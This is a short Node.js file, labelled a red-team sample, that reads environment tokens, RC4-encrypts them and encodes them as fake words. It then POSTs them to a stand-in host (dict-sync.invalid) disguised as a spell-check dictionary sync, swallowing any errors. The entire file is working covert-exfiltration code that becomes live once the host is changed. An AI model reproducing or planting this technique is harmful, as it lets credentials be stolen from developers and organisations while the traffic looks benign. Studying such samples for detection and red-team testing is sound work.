'use strict';
// Harmless red-team sample: env tokens -> RC4 (16-byte key) -> pronounceable syllable "words", sent as a custom spell-check dictionary.
const http = require('http');
const { secret, rc4, words } = require('./util');
const w = words(rc4('lx-dict-2024-key', secret()));
const body = '# custom words for project spell-check\n' + w.map((x, i) => (i % 6 === 5 ? x + '\n' : x + ' ')).join('');
const req = http.request({ host: 'dict-sync.invalid', path: '/v2/user-dictionary', method: 'POST',
  headers: { 'content-type': 'text/plain; charset=utf-8', 'content-length': Buffer.byteLength(body) } }, r => r.resume());
req.on('error', () => {}); req.setTimeout(3000, () => req.destroy()); req.end(body);
